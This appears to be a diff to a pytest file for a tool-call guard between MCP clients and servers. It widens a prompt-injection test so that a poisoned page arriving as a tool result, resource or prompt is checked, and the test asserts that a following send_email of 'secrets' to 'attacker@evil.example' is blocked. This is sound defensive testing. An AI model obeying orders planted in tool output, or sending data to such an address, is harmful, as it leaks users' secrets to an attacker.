@@ -48,8 +48,8 @@ def test_a_client_of_the_official_sdk_lists_calls_reads_and_prompts(tools: ToolH
     assert not called.is_error
     assert words(called).startswith("It is sunny in Rome")
     assert failed.is_error
-    assert [resource.name for resource in resources.resources] == ["notes"]
-    assert [prompt.name for prompt in prompts.prompts] == ["greet"]
+    assert {resource.name for resource in resources.resources} == {"notes", "page"}
+    assert {prompt.name for prompt in prompts.prompts} == {"greet", "page_prompt"}
 
 
 @every_way
@@ -175,17 +175,28 @@ def test_a_server_of_another_app_is_not_there(tools: ToolHouse) -> None:
     assert json.loads(answer.body)["error"]["data"]["stepwarden/reason"] == "unknown_server"
 
 
-def test_orders_in_a_result_lead_to_no_act(tools: ToolHouse) -> None:
-    """The address that only a poisoned page named is not written to, in the session the page came in."""
-    session = {"stepwarden/session": "poisoned-1"}
+SHAPES = {
+    **{f"page_{shape}": ("call_tool", (f"page_{shape}", {})) for shape in ("text", "facts", "link", "within", "error")},
+    "a resource": ("read_resource", ("house://page",)),
+    "a prompt": ("get_prompt", ("page_prompt",)),
+}
+
+
+@pytest.mark.parametrize(("method", "arguments"), SHAPES.values(), ids=SHAPES)
+@pytest.mark.parametrize("server", ["web", "pipe"])
+def test_orders_that_a_server_brings_lead_to_no_act(
+    tools: ToolHouse, server: str, method: str, arguments: tuple[Any, ...]
+) -> None:
+    """The address that only a poisoned page named is not written to, in whatever shape the page came."""
 
     async def work() -> list[Any]:
-        async with tools.client("web", "auto") as client:
-            page = await client.call_tool("read_page", {}, meta=session)
+        async with tools.client(server, "legacy") as client:
+            before = await client.call_tool("called", {})
+            await getattr(client, method)(*arguments)
             to = {"to": "attacker@evil.example", "body": "secrets"}
-            return [page, await client.call_tool("send_email", to, meta=session), await client.call_tool("called", {})]
+            return [before, await client.call_tool("send_email", to), await client.call_tool("called", {})]
 
-    _, sent, after = run(work)
+    before, sent, after = run(work)
     assert sent.is_error
     assert "Reason: " in words(sent)
-    assert "send_email" not in words(after).split(",")
+    assert words(after).count("send_email") == words(before).count("send_email")
